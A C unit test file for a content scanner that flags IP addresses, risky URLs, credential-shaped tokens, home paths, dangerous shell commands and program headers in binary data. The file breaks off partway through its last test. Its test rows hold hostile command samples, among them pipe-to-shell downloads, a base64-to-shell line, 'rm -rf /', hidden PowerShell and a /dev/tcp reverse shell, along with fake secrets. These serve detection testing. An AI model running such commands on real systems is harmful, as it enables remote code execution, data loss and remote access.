/*
 * What is found in data, and what only looks like it. Every row is tried as
 * bytes and as UTF-16, at even and odd places: all four must agree.
 *
 * Tokens are written in pieces, so that nobody's scanner takes this file for a
 * leak.
 */
#include "scanner/content/content.h"
#include "scanner/finding.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#define NOTHING     -1
#define NOTE        GK_SEVERITY_NOTE
#define WARNING     GK_SEVERITY_WARNING
#define B64_40      "MIIEpAIBAAKCAQEAu5Zt0q9XkY2vR7nW3sLpQ8dH"
#define KEY(words)  "-----BEGIN " words " KEY-----"
#define DRAWN_16    "q7Zt0X9kY2vR7nW3"
#define DRAWN_20    DRAWN_16 "sLpQ"
#define DRAWN_24    DRAWN_20 "8dHf"
#define DRAWN_28    DRAWN_24 "K5aB"
#define DRAWN_35    DRAWN_28 "j1Mc6Ew"
#define DRAWN_40    DRAWN_35 "T4u9x"
#define HEX_32      "9f86d081884c7d659a2feaa0c55ad015"
#define JWT_HEAD    "eyJhbGciOiJIUzI1NiJ9"
#define JWT_BODY    "eyJzdWIiOiJhbGljZSIsInJvbGUiOiJhZG1pbiJ9"
#define JWT_TAIL    "Xk3vR7nW3sLpQ8dHfK5aBj1Mc6EwT4u9x"
#define JWT_MANUAL  "eyJzdWIiOiIxMjM0NTY3ODkwIn0"
#define LETTERS_34  "aBcQdReSfTgUhViWjXkYlZmAnBoCpDqErF"
#define DISCORD_URL "https://discord.com/api/webhooks/123/" DRAWN_24

static const struct row {
    const char *name;
    enum gk_hit_kind kind;
    const char *text;
    int severity; /* or NOTHING */
    const char *shown;
} rows[] = {
    /* addresses */
    {"public", GK_HIT_ADDRESS, "185.220.101.7", WARNING, "185.220.101.7"},
    {"documentation", GK_HIT_ADDRESS, "203.0.113.9", WARNING, "203.0.113.9"},
    {"with a port", GK_HIT_ADDRESS, "1.2.3.4:4444", WARNING, "1.2.3.4"},
    {"in a setting", GK_HIT_ADDRESS, "host=203.0.113.9;", WARNING,
     "203.0.113.9"},
    {"quoted", GK_HIT_ADDRESS, "{\"c2\":\"198.51.100.3\"}", WARNING,
     "198.51.100.3"},
    {"glued to a word", GK_HIT_ADDRESS, "value203.0.113.9called", WARNING,
     "203.0.113.9"},
    {"behind a name", GK_HIT_ADDRESS, "ssh root@203.0.113.9", WARNING,
     "203.0.113.9"},
    {"metadata service", GK_HIT_ADDRESS, "169.254.169.254", WARNING,
     "169.254.169.254, where clouds keep a machine's credentials"},
    {"name server", GK_HIT_ADDRESS, "8.8.8.8", WARNING, "8.8.8.8"},
    {"private", GK_HIT_ADDRESS, "192.168.1.10", NOTE,
     "192.168.1.10, of a private network"},
    {"group", GK_HIT_ADDRESS, "239.255.255.250", NOTE,
     "239.255.255.250, of a group"},
    {"as small as a version", GK_HIT_ADDRESS, "1.2.3.4", NOTE, "1.2.3.4"},
    {"in a sentence", GK_HIT_ADDRESS,
     "turn a text such as 185.1.2.9 into four bytes", NOTE, "185.1.2.9"},
    {"a large version", GK_HIT_ADDRESS, "Version: 98.100.200.17", NOTE,
     "98.100.200.17"},
    {"loopback", GK_HIT_ADDRESS, "127.0.0.1", NOTHING, ""},
    {"any", GK_HIT_ADDRESS, "0.0.0.0", NOTHING, ""},
    {"mask", GK_HIT_ADDRESS, "255.255.255.0", NOTHING, ""},
    {"network", GK_HIT_ADDRESS, "10.0.0.0", NOTHING, ""},
    {"network with its length", GK_HIT_ADDRESS, "198.51.100.0/24", NOTHING, ""},
    {"version", GK_HIT_ADDRESS, "version 1.2.3.4", NOTHING, ""},
    {"version with v", GK_HIT_ADDRESS, "v203.0.113.9", NOTHING, ""},
    {"version of a product", GK_HIT_ADDRESS, "Mozilla/203.0.113.9", NOTHING,
     ""},
    {"version with a suffix", GK_HIT_ADDRESS, "203.0.113.9-rc1", NOTHING, ""},
    {"five numbers", GK_HIT_ADDRESS, "203.0.113.9.1", NOTHING, ""},
    {"three numbers", GK_HIT_ADDRESS, "203.0.113", NOTHING, ""},
    {"object identifier", GK_HIT_ADDRESS, "2.5.29.15", NOTHING, ""},
    {"longer identifier", GK_HIT_ADDRESS, "1.3.6.1.4.1.311", NOTHING, ""},
    {"section", GK_HIT_ADDRESS, "see section 7.3.2.1", NOTHING, ""},
    {"number over 255", GK_HIT_ADDRESS, "203.0.113.256", NOTHING, ""},
    {"leading zero", GK_HIT_ADDRESS, "203.00.113.9", NOTHING, ""},
    {"GK032 speaks of URLs", GK_HIT_ADDRESS, "http://203.0.113.9/x", NOTHING,
     ""},
    {"and of names in them", GK_HIT_ADDRESS, "http://a@203.0.113.9/", NOTHING,
     ""},
    {"IPv6", GK_HIT_ADDRESS, "2a02:26f0:1::5", WARNING, "2a02:26f0:1::5"},
    {"IPv6 in full", GK_HIT_ADDRESS, "2001:0db8:0:0:1:2:3:4", WARNING,
     "2001:0db8:0:0:1:2:3:4"},
    {"IPv6 in brackets", GK_HIT_ADDRESS, "[2001:db8::1]:443", WARNING,
     "2001:db8::1"},
    {"IPv6 link", GK_HIT_ADDRESS, "fe80::1", NOTE, "fe80::1, of a local link"},
    {"IPv6 metadata", GK_HIT_ADDRESS, "fd00:ec2::254", WARNING,
     "fd00:ec2::254, where clouds keep a machine's credentials"},
    {"IPv6 loopback", GK_HIT_ADDRESS, "::1", NOTHING, ""},
    {"IPv6 network", GK_HIT_ADDRESS, "2001:db8::/32", NOTHING, ""},
    {"C++ name", GK_HIT_ADDRESS, "std::feed::cafe", NOTHING, ""},
    {"time", GK_HIT_ADDRESS, "2024:01:02 10:20:30", NOTHING, ""},
    {"fingerprint", GK_HIT_ADDRESS, "2024:a1:b2:c3:d4:e5:f6:07:18", NOTHING,
     ""},
    {"two gaps", GK_HIT_ADDRESS, "2001::1::2", NOTHING, ""},

    /* URLs */
    {"link", GK_HIT_URL, "https://github.com/a/b", NOTE,
     "https://github.com/a/b"},
    {"link alone", GK_HIT_URL, "https://github.com", NOTE,
     "https://github.com"},
    {"web socket", GK_HIT_URL, "wss://live.acme.dev:8443/feed?k=1", NOTE,
     "wss://live.acme.dev:8443/feed?…"},
    {"query is not shown", GK_HIT_URL, "http://acme.dev/?q=hello", NOTE,
     "http://acme.dev/?…"},
    {"odd part is not shown", GK_HIT_URL, "http://acme.dev/a/" DRAWN_16 "/b",
     NOTE, "http://acme.dev/a/…"},
    {"glued to the next string", GK_HIT_URL, "https://docs.rsCould not", NOTE,
     "https://docs.rs"},
    {"bare address", GK_HIT_URL, "http://203.0.113.9/x", WARNING,
     "http://203.0.113.9/x, a bare address"},
    {"bare IPv6", GK_HIT_URL, "http://[2001:db8::7]:80/", WARNING,
     "http://[2001:db8::7]:80/, a bare address"},
    {"decimal address", GK_HIT_URL, "http://3405803785/", WARNING,
     "http://3405803785/, a bare address"},
    {"private address", GK_HIT_URL, "http://192.168.0.9/", NOTE,
     "http://192.168.0.9/, of a private network"},
    {"punycode", GK_HIT_URL, "https://www.xn--pple-43d.com/", WARNING,
     "https://www.xn--pple-43d.com/, a name in letters that may look like "
     "others"},
    {"password", GK_HIT_URL, "ftp://bob:hunter2@files.acme.dev/", WARNING,
     "ftp://…@files.acme.dev/, with a password in it"},
    {"webhook", GK_HIT_URL, DISCORD_URL, WARNING,
     "https://discord.com/…, a chat's webhook"},
    {"bot", GK_HIT_URL, "https://api.telegram.org/bot1/sendMessage", WARNING,
     "https://api.telegram.org/…, a chat's bot"},
    {"paste", GK_HIT_URL, "https://PasteBin.com/raw/x", WARNING,
     "https://PasteBin.com/…, a paste service"},
    {"tunnel", GK_HIT_URL, "https://ab12.ngrok-free.app", WARNING,
     "https://ab12.ngrok-free.app, a tunnel"},
    {"a chat without a webhook", GK_HIT_URL, "https://discord.com/invite", NOTE,
     "https://discord.com/invite"},
    {"nearly a paste service", GK_HIT_URL, "https://notpastebin.com/", NOTE,
     "https://notpastebin.com/"},
    {"password of a database", GK_HIT_URL,
     "postgres://admin:DNxril3Rav@db.corp-internal.io:5432/x", WARNING,
     "postgres://…@db.corp-internal.io:5432/x, with a password in it"},
    {"password of a cluster", GK_HIT_URL,
     "mongodb+srv://root:K2AxSQm5@c0.mongodb.net/", WARNING,
     "mongodb+srv://…@c0.mongodb.net/, with a password in it"},
    {"password without a name", GK_HIT_URL, "redis://:DNxril3Rav@cache.corp.io",
     WARNING, "redis://…@cache.corp.io, with a password in it"},
    {"database without a password", GK_HIT_URL,
     "postgres://admin@db.corp-internal.io:5432/x", NOTHING, ""},
    {"a password to come of a database", GK_HIT_URL,
     "mysql://root:${PASS}@db.corp.io/", NOTHING, ""},
    {"a name without a password", GK_HIT_URL, "https://git@github.com/a", NOTE,
     "https://github.com/a"},
    {"a password to come", GK_HIT_URL, "https://u:%s@acme.dev/", NOTE,
     "https://acme.dev/"},
    {"namespace", GK_HIT_URL, "http://www.w3.org/2000/svg", NOTHING, ""},
    {"schema", GK_HIT_URL, "http://schemas.microsoft.com/x", NOTHING, ""},
    {"example", GK_HIT_URL, "https://api.example.com/", NOTHING, ""},
    {"this machine", GK_HIT_URL, "http://127.0.0.1:8080/", NOTHING, ""},
    {"this machine by name", GK_HIT_URL, "http://localhost:8080/", NOTHING, ""},
    {"host to come", GK_HIT_URL, "http://%s/", NOTHING, ""},
    {"part of a host to come", GK_HIT_URL, "https://api.{region}.acme.dev",
     NOTHING, ""},
    {"no host", GK_HIT_URL, "http://", NOTHING, ""},
    {"www alone", GK_HIT_URL, "http://www.then", NOTHING, ""},
    {"another scheme", GK_HIT_URL, "file:///etc/hosts", NOTHING, ""},

    /* secrets */
    {"AWS", GK_HIT_SECRET,
     "AKIA"
     "Q7ZTXVKYWRNSLP5D",
     WARNING, "AWS access key id AKIA…, 20 characters"},
    {"AWS in a sentence", GK_HIT_SECRET,
     "id AKIA"
     "Q7ZTXVKYWRNSLP5D, see",
     WARNING, "AWS access key id AKIA…, 20 characters"},
    {"AWS manual's", GK_HIT_SECRET,
     "AKIA"
     "IOSFODNN7EXAMPLE",
     NOTHING, ""},
    {"AWS too short", GK_HIT_SECRET,
     "AKIA"
     "Q7ZTXVKYWRNSLP5",
     NOTHING, ""},
    {"AWS too long", GK_HIT_SECRET,
     "AKIA"
     "Q7ZTXVKYWRNSLP5DQ",
     NOTHING, ""},
    {"AWS in lower case", GK_HIT_SECRET,
     "AKIA"
     "q7ztxvkywrnslp5d",
     NOTHING, ""},
    {"AWS in base 32", GK_HIT_SECRET,
     "MFAKIA"
     "Q7ZTXVKYWRNSLP5D",
     NOTHING, ""},
    {"AWS of one letter", GK_HIT_SECRET,
     "AKIA"
     "XXXXXXXXXXXXXXXX",
     NOTHING, ""},
    {"GitHub", GK_HIT_SECRET,
     "ghp_"
     "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17",
     WARNING, "GitHub token ghp_…, 40 characters"},
    {"GitHub glued", GK_HIT_SECRET,
     "token_ghp_"
     "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17called",
     WARNING, "GitHub token ghp_…, 40 characters"},
    {"GitHub, wrong sum", GK_HIT_SECRET,
     "ghp_"
     "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq18",
     NOTHING, ""},
    {"GitHub fine", GK_HIT_SECRET,
     "github_pat_"
     "11A" DRAWN_16 "abc_" DRAWN_40 DRAWN_16 "xyz",
     WARNING, "GitHub token gith…, 93 characters"},
    {"GitLab", GK_HIT_SECRET, "glpat-" DRAWN_20, WARNING,
     "GitLab token glpa…, 26 characters"},
    {"GitLab placeholder", GK_HIT_SECRET,
     "glpat-"
     "xxxxxxxxxxxxxxxxxxxx",
     NOTHING, ""},
    {"GitLab behind a placeholder", GK_HIT_SECRET,
     "glpat-"
     "xxxxxxxxxxxxxxxxxxxx glpat-" DRAWN_20,
     WARNING, "GitLab token glpa…, 26 characters"},
    {"GitLab behind a long run of none", GK_HIT_SECRET,
     "glpat-"
     "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
     "glpat-" DRAWN_20,
     WARNING, "GitLab token glpa…, 26 characters"},
    {"GitLab too short", GK_HIT_SECRET,
     "glpat-"
     "q7Zt0X9kY2",
     NOTHING, ""},
    {"Slack", GK_HIT_SECRET,
     "xoxb-"
     "2048193756-4819375620-" DRAWN_24,
     WARNING, "Slack bot token xoxb…, 51 characters"},
    {"Slack prefix alone", GK_HIT_SECRET, "xoxb-", NOTHING, ""},
    {"Stripe", GK_HIT_SECRET, "sk_live_" DRAWN_24, WARNING,
     "Stripe live key sk_l…, 32 characters"},
    {"Stripe test key", GK_HIT_SECRET, "sk_test_" DRAWN_24, NOTHING, ""},
    {"Stripe placeholder", GK_HIT_SECRET,
     "sk_live_"
     "yourStripeKeyGoesHere1234",
     NOTHING, ""},
    {"Google", GK_HIT_SECRET, "AIza" DRAWN_35, WARNING,
     "Google API key AIza…, 39 characters"},
    {"Google too long", GK_HIT_SECRET, "AIza" DRAWN_35 "q", NOTHING, ""},
    {"npm", GK_HIT_SECRET, "npm_" DRAWN_35 "7", WARNING,
     "npm token npm_…, 40 characters"},
    {"npm setting", GK_HIT_SECRET,
     "npm_config_registry_and_other_settings_here", NOTHING, ""},
    {"OpenAI", GK_HIT_SECRET,
     "sk-" DRAWN_20 "T3Blbk"
     "FJ" DRAWN_20,
     WARNING, "OpenAI key sk-q…, 51 characters"},
    {"without the mark", GK_HIT_SECRET, "sk-" DRAWN_40 "12345678", NOTHING, ""},
    {"a task", GK_HIT_SECRET,
     "task-"
     "aggregate-and-collect-everything-there-is",
     NOTHING, ""},
    {"Anthropic", GK_HIT_SECRET,
     "sk-ant-"
     "api03-" DRAWN_40 DRAWN_40,
     WARNING, "Anthropic key sk-a…, 93 characters"},
    {"Anthropic prefix", GK_HIT_SECRET,
     "sk-ant-"
     "api03-",
     NOTHING, ""},
    {"Hugging Face", GK_HIT_SECRET, "hf_" LETTERS_34, WARNING,
     "Hugging Face token hf_a…, 37 characters"},
    {"a class of theirs", GK_HIT_SECRET,
     "hf_"
     "AutomodelforsequenceclassificationX",
     NOTHING, ""},
    {"Telegram", GK_HIT_SECRET,
     "483920174"
     ":AA" DRAWN_28 "j1Mc6",
     WARNING, "Telegram bot token :AAq…, 36 characters"},
    {"Telegram without a number", GK_HIT_SECRET, "x:AA" DRAWN_28 "j1Mc6",
     NOTHING, ""},
    {"JWT", GK_HIT_SECRET, JWT_HEAD "." JWT_BODY "." JWT_TAIL, WARNING,
     "JSON web token eyJh…, 95 characters"},
    {"JWT of the manual", GK_HIT_SECRET, JWT_HEAD "." JWT_MANUAL "." JWT_TAIL,
     NOTHING, ""},
    {"JWT of two parts", GK_HIT_SECRET, JWT_HEAD "." JWT_BODY, NOTHING, ""},
    {"JWT without alg", GK_HIT_SECRET,
     "eyJ0eXAiOiJKV1QiLCJ4Ijp7fX0." JWT_BODY "." JWT_TAIL, NOTHING, ""},
    {"private key", GK_HIT_SECRET, KEY("RSA PRIVATE") "\n" B64_40 "\n" B64_40,
     WARNING, "private key MIIE…, 81 characters"},
    {"private key in a string", GK_HIT_SECRET,
     KEY("PRIVATE") "\\n" B64_40 "\\n", WARNING,
     "private key MIIE…, 40 characters"},
    {"header of a key alone", GK_HIT_SECRET, KEY("PRIVATE"), NOTHING, ""},
    {"header in a list", GK_HIT_SECRET, KEY("PRIVATE") "\n" KEY("EC PRIVATE"),
     NOTHING, ""},
    {"public key", GK_HIT_SECRET, KEY("PUBLIC") "\n" B64_40, NOTHING, ""},
    {"bearer", GK_HIT_SECRET, "Authorization: Bearer " DRAWN_24, WARNING,
     "authorization token q7Zt…, 24 characters"},
    {"bearer to come", GK_HIT_SECRET, "Authorization: Bearer %s", NOTHING, ""},
    {"bearer in words", GK_HIT_SECRET, "bearer authentication_is_required_here",
     NOTHING, ""},
    {"basic", GK_HIT_SECRET,
     "Basic "
     "YWRtaW46Q29ycmVjdEhvcnNl",
     WARNING, "authorization password YWRt…, 24 characters"},
    {"basic of the manual", GK_HIT_SECRET,
     "Basic dXNlcjpwYXNzd29yZA==", NOTHING, ""},
    {"basic in words", GK_HIT_SECRET, "basic understanding of it", NOTHING, ""},
    {"password", GK_HIT_SECRET, "db_password=" DRAWN_16, WARNING,
     "value of a secret's name q7Z…, 16 characters"},
    {"key in JSON", GK_HIT_SECRET, "{\"apiKey\": \"" HEX_32 "\"}", WARNING,
     "value of a secret's name 9f86…, 32 characters"},
    {"key in JSON without blanks", GK_HIT_SECRET,
     "{\"client_secret\":\"" DRAWN_20 "\"}", WARNING,
     "value of a secret's name q7Zt…, 20 characters"},
    {"short password", GK_HIT_SECRET, "PASSWORD = 'Tr0ub4dorX3'", WARNING,
     "value of a secret's name Tr…, 11 characters"},
    {"placeholder", GK_HIT_SECRET, "api_key=your_api_key_12345", NOTHING, ""},
    {"hole", GK_HIT_SECRET, "password=${DB_PASSWORD}", NOTHING, ""},
    {"format", GK_HIT_SECRET, "token=%s&user=%s", NOTHING, ""},
    {"word", GK_HIT_SECRET, "password=correcthorsebattery", NOTHING, ""},
    {"name in code", GK_HIT_SECRET, "token=parser.nextToken2AndThenSome(x)",
     NOTHING, ""},
    {"comparison", GK_HIT_SECRET, "token==" DRAWN_16, NOTHING, ""},
    {"another name", GK_HIT_SECRET, "integrity=" DRAWN_24, NOTHING, ""},
    {"tokenizer", GK_HIT_SECRET, "tokenizer=" DRAWN_24, NOTHING, ""},
    {"digits in order", GK_HIT_SECRET, "secret=abc12345678901234", NOTHING, ""},

    /* paths */
    {"home", GK_HIT_PATH, "/home/alice/src/x.c", NOTE, "/home/alice/src/x.c"},
    {"Mac", GK_HIT_PATH, "/Users/alice/p/lib.rs", NOTE,
     "/Users/alice/p/lib.rs"},
    {"Windows", GK_HIT_PATH, "C:\\Users\\alice\\p\\x.c", NOTE,
     "C:\\Users\\alice\\p\\x.c"},
    {"Windows with slashes", GK_HIT_PATH, "d:/users/alice/p/x.c", NOTE,
     "d:/users/alice/p/x.c"},
    {"root", GK_HIT_PATH, "/root/repo/x.c", NOTE, "/root/repo/x.c"},
    {"pipeline", GK_HIT_PATH, "/builds/acme/plugin/x.c", NOTE,
     "/builds/acme/plugin/x.c"},
    {"action", GK_HIT_PATH, "/github/workspace/x.c", NOTE,
     "/github/workspace/x.c"},
    {"option of a compiler", GK_HIT_PATH, "-I/home/alice/include", NOTE,
     "/home/alice/include"},
    {"glued to a word", GK_HIT_PATH, "on a None value/home/al/x.rs", NOTE,
     "/home/al/x.rs"},
    {"in a sentence", GK_HIT_PATH, "at '/home/alice/x.c:12'", NOTE,
     "/home/alice/x.c"},
    {"part of a longer path", GK_HIT_PATH, "/data/home/alice/x.c", NOTHING, ""},
    {"part of a URL", GK_HIT_PATH, "https://x.dev/home/alice/x", NOTHING, ""},
    {"relative", GK_HIT_PATH, "./home/alice/x", NOTHING, ""},
    {"home alone", GK_HIT_PATH, "/home/alice/", NOTHING, ""},
    {"made up by a runtime", GK_HIT_PATH, "/home/web_user/x", NOTHING, ""},
    {"hole", GK_HIT_PATH, "/home/%s/x", NOTHING, ""},
    {"no drive", GK_HIT_PATH, "std:\\users\\alice\\x", NOTHING, ""},
    {"secret in a path", GK_HIT_PATH,
     "/home/al/ghp_"
     "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17",
     NOTE, "/home/al/***"},

    /* commands */
    {"curl to sh", GK_HIT_COMMAND, "curl -s https://x.dev/i.sh | sh", WARNING,
     "\"curl … | sh\" runs what it fetched"},
    {"wget to sudo bash", GK_HIT_COMMAND, "wget -O- x.dev|sudo bash -s",
     WARNING, "\"wget … | sh\" runs what it fetched"},
    {"hidden script", GK_HIT_COMMAND, "echo aGk= | base64 -d | /bin/sh",
     WARNING, "\"base64 -d | sh\" runs a hidden text"},
    {"curl to grep", GK_HIT_COMMAND, "curl x.dev | grep sh", NOTHING, ""},
    {"curl to shasum", GK_HIT_COMMAND, "curl x.dev | shasum", NOTHING, ""},
    {"another line", GK_HIT_COMMAND, "curl x.dev\necho | sh", NOTHING, ""},
    {"all files", GK_HIT_COMMAND, "rm -rf /", WARNING,
     "\"rm -rf /\" deletes every file"},
    {"some files", GK_HIT_COMMAND, "rm -rf /var/tmp/x", NOTHING, ""},
    {"powershell", GK_HIT_COMMAND, "PowerShell.exe -nop -w hidden -Enc SQBF",
     WARNING, "\"powershell -enc\" runs a hidden text"},
    {"powershell twice", GK_HIT_COMMAND,
     "powershell.exe -Version\npowershell -e SQBF", WARNING,
     "\"powershell -enc\" runs a hidden text"},
    {"powershell alone", GK_HIT_COMMAND, "powershell.exe -Version", NOTHING,
     ""},
    {"socket of a shell", GK_HIT_COMMAND, "bash >/dev/tcp/1.2.3.4/9", WARNING,
     "\"/dev/tcp/\" connects a shell to the net"},
    {"Node.js", GK_HIT_COMMAND, "require('child_process')", NOTE,
     "\"child_process\" starts programs from Node.js"},
    {"nearly", GK_HIT_COMMAND, "my_child_processes", NOTHING, ""},
};

/* The text as it lies in a segment: `wide` or not, after `before` bytes. */
static void lay(const char *text, bool wide, size_t before, gk_buf *out)
{
    gk_buf_fill(out, 0, before);
    for (; *text != '\0'; text++) {
        gk_buf_byte(out, (uint8_t)*text);
        if (wide)
            gk_buf_byte(out, 0);
    }
    gk_buf_fill(out, 0, 2);
    assert_int_equal(out->status, GK_OK);
}

static void find(const void *bytes, size_t len, gk_content *out)
{
    struct gk_data data = {.len = (uint32_t)len};
    /* A copy that ends where its memory does: a sanitizer sees what is read
     * behind it. */
    uint8_t *copy = malloc(len > 0 ? len : 1);
    gk_module m = {.bytes = copy, .len = len, .datas = &data, .data_count = 1};

    assert_non_null(copy);
    if (len > 0)
        memcpy(copy, bytes, len);
    assert_int_equal(gk_content_find(&m, out, NULL), GK_OK);
    free(copy);
}

static void check_row(const struct row *r, const char *how,
                      const gk_content *found, size_t before)
{
    const struct gk_hits *hits = &found->hits[r->kind];

    if (r->severity == NOTHING) {
        if (hits->count > 0)
            print_error("%s (%s): %s\n", r->name, how, hits->at[0].shown);
        return;
    }
    if (hits->count != 1)
        print_error("%s (%s): %zu hits\n", r->name, how, hits->count);
    if (strcmp(hits->at[0].shown, r->shown) != 0 ||
        (int)hits->at[0].severity != r->severity)
        fail_msg("%s (%s): %s, %s", r->name, how,
                 gk_severity_word(hits->at[0].severity), hits->at[0].shown);
    assert_true(hits->at[0].spot.within >= before);
}

static void rows_are_found_however_they_lie(void **state)
{
    static const struct {
        const char *name;
        bool wide;
        size_t before;
    } ways[] = {{"bytes", false, 0},
                {"bytes at an odd place", false, 1},
                {"UTF-16", true, 0},
                {"UTF-16 at an odd place", true, 3}};

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++)
        for (size_t w = 0; w < sizeof ways / sizeof *ways; w++) {
            gk_buf bytes = GK_BUF_INIT;
            gk_content found;

            if (ways[w].wide && strlen(rows[i].text) < 6)
                continue;
            lay(rows[i].text, ways[w].wide, ways[w].before, &bytes);
            find(bytes.data, bytes.len, &found);
            check_row(&rows[i], ways[w].name, &found, ways[w].before);
            gk_content_clear(&found);
            gk_buf_clear(&bytes);
        }
}

/* Nothing of a secret but its first four characters is shown, whatever kind of
 * hit it is in. */
static void secrets_are_not_shown(void **state)
{
    static const char token[] = "ghp_"
                                "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17";
    static const char *const around[] = {
        "%s",
        "https://u:%s@acme.dev/%s?x=%s",
        "/home/alice/%s/x.c",
        "curl -H 'Authorization: Bearer %s' https://acme.dev/%s | sh",
        "password=%s",
        "/home/%s/x",
        "https://%s.acme.dev/",
    };

    (void)state;
    for (size_t i = 0; i < sizeof around / sizeof *around; i++) {
        gk_buf text = GK_BUF_INIT;
        gk_content found;

        for (const char *p = around[i]; *p != '\0'; p++)
            if (p[0] == '%' && p[1] == 's') {
                gk_buf_puts(&text, token);
                p++;
            } else {
                gk_buf_byte(&text, (uint8_t)*p);
            }
        find(text.data, text.len, &found);
        for (size_t k = 0; k < GK_HIT_KINDS; k++)
            for (size_t h = 0; h < found.hits[k].count; h++)
                if (strstr(found.hits[k].at[h].shown, "zQWB") != NULL)
                    fail_msg("%s: %s", around[i], found.hits[k].at[h].shown);
        gk_content_clear(&found);
        gk_buf_clear(&text);
    }
}

static const struct program_row {
    const char *name;
    const char *bytes;
    size_t len;
    int severity;
    const char *shown;
} programs[] = {
#define PROGRAM(name, bytes, severity, shown)                                  \
    {                                                                          \
        name, bytes, sizeof bytes - 1, severity, shown                         \
    }
    PROGRAM("ELF",
            "\x7f"
            "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0\1\0\0\0",
            WARNING, "a program for Linux (ELF)"),
    PROGRAM("ELF, big end first",
            "\x7f"
            "ELF\1\2\1\0\0\0\0\0\0\0\0\0\0\2\0\x08\0\0\0\1",
            WARNING, "a program for Linux (ELF)"),
    PROGRAM("magic of ELF alone",
            "\x7f"
            "ELF\0\0\0\0",
            NOTHING, ""),
    PROGRAM("Mach-O",
            "\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x10\0\0\0",
            WARNING, "a program for macOS (Mach-O)"),
    PROGRAM("Mach-O, fat", "\xca\xfe\xba\xbe\0\0\0\2\1\0\0\7\0\0\0\3", WARNING,
            "a program for macOS (Mach-O)"),
    PROGRAM("Java class", "\xca\xfe\xba\xbe\0\0\0\x37\1\0\0\7\0\0\0\3", NOTHING,
            ""),
    PROGRAM("module", "\0asm\1\0\0\0\1\4\1\x60\0\0", NOTE,
            "a WebAssembly module"),
    PROGRAM("module of no known section", "\0asm\1\0\0\0\x99\4\1\x60\0\0",
            NOTHING, ""),
    PROGRAM("gzip", "\x1f\x8b\x08\0\0\0\0\0\0\3\x4b\x4c", NOTE, "gzip data"),
    PROGRAM("gzip, impossible flags", "\x1f\x8b\x08\xff\0\0\0\0\0\3\x4b\x4c",
            NOTHING, ""),
    PROGRAM("ZIP",
            "PK\3\4\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\5\0\0\0"
            "a.txt",
            NOTE, "a ZIP archive"),
    PROGRAM("magic of ZIP alone", "PK\3\4 is what it begins with", NOTHING, ""),
    PROGRAM("zstd", "\x28\xb5\x2f\xfd\x24\5\x29\0\0hello\0\0\0", NOTE,
            "zstd data"),
    PROGRAM("zstd, reserved bit", "\x28\xb5\x2f\xfd\x2c\5\x29\0\0hello\0\0\0",
            NOTHING, ""),
    PROGRAM("xz",
            "\xfd"
            "7zXZ\0\0\4\xe6\xd6\xb4\x46",
            NOTE, "xz data"),
    PROGRAM("bzip2", "BZh91AY&SY\1\2\3\4", NOTE, "bzip2 data"),
    PROGRAM("bzip2's name", "BZh9 is its name", NOTHING, ""),
    PROGRAM("script", "#!/bin/sh\necho hello\n", WARNING, "a script"),
    PROGRAM("script of env", "#!/usr/bin/env python3\nimport os\n", WARNING,
            "a script"),
    PROGRAM("first line alone", "#!/bin/sh\n", NOTHING, ""),
    PROGRAM("in a sentence", "begin with #!/bin/sh\nand go on", NOTHING, ""),
#undef PROGRAM
};

static void check_program(const struct program_row *p, size_t before)
{
    gk_buf bytes = GK_BUF_INIT;
    gk_content found;
    const struct gk_hits *hits = &found.hits[GK_HIT_PROGRAM];

    gk_buf_fill(&bytes, 0, before);
    gk_buf_put(&bytes, p->bytes, p->len);
    gk_buf_fill(&bytes, 0, 64);
    find(bytes.data, bytes.len, &found);
    if (p->severity == NOTHING) {
        if (hits->count > 0)
            fail_msg("%s: %s", p->name, hits->at[0].shown);
    } else if (hits->count != 1 || (int)hits->at[0].severity != p->severity ||
               strcmp(hits->at[0].shown, p->shown) != 0 ||
               hits->at[0].spot.within != before) {
        fail_msg("%s at %zu: %zu hits, %s", p->name, before, hits->count,
                 hits->count > 0 ? hits->at[0].shown : "");
    }
    gk_content_clear(&found);
    gk_buf_clear(&bytes);
}

static void programs_are_told_by_their_headers(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof programs / sizeof *programs; i++)
        for (size_t before = 0; before < 4; before++)
            check_program(&programs[i], before);
}

static void windows_program_needs_both_headers(void **state)
{
    uint8_t bytes[256] = {0};
    gk_content found;

    (void)state;
    memcpy(bytes + 5, "MZ\x90\0", 4);
    bytes[5 + 60] = 0x80;
    find(bytes, sizeof bytes, &found);
    assert_int_equal(found.hits[GK_HIT_PROGRAM].count, 0);
    gk_content_clear(&found);

    memcpy(bytes + 5 + 0x80, "PE\0\0\x64\x86", 6);
    find(bytes, sizeof bytes, &found);
    assert_int_equal(found.hits[GK_HIT_PROGRAM].count, 1);
    assert_string_equal(found.hits[GK_HIT_PROGRAM].at[0].shown,
                        "a program for Windows (PE)");
    assert_int_equal(found.hits[GK_HIT_PROGRAM].at[0].spot.within, 5);
    gk_content_clear(&found);
}

/* xorshift: the same bytes everywhere. */
static void draw(uint8_t *bytes, size_t len)
{
    uint32_t x = 2463534242u;

    for (size_t i = 0; i < len; i++) {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        bytes[i] = (uint8_t)(x >> 11);
    }
}

static void entropy_is_shannons(void **state)
{
    uint8_t bytes[65536];

    (void)state;
    memset(bytes, 7, sizeof bytes);
    assert_int_equal(gk_entropy(bytes, sizeof bytes), 0);
    for (size_t i = 0; i < sizeof bytes; i++)
        bytes[i] = (uint8_t)i;
    assert_int_equal(gk_entropy(bytes, sizeof bytes), 8 * GK_ENTROPY_BIT);
    for (size_t i = 0; i < sizeof bytes; i++)
        bytes[i] = i % 3 == 0;
    /* H(1/3) = 0.918296 bits */
    assert_in_range(gk_entropy(bytes, 3 * 1000), 60170, 60192);
    draw(bytes, sizeof bytes);
